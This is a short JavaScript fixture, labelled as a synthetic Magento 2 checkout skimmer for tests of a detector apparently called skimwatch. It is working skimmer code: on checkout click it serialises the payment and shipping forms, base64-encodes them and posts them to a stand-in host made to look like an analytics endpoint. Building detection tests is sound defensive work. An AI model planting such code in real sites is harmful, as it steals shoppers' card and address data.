// Synthetic Magento 2 skimmer for skimwatch tests: the one-page checkout's
// payment and shipping forms serialised, base64-encoded and posted away.
require(['jquery'], function ($) {
  $(document).on('click', '#payment-submit, .action.checkout', function () {
    var d = $('#co-payment-form').serialize() + '&' + $('#co-shipping-form').serialize();
    $.ajax({ url: 'https://magento-analytics.example/log', type: 'POST', data: { p: btoa(d) } });
  });
});
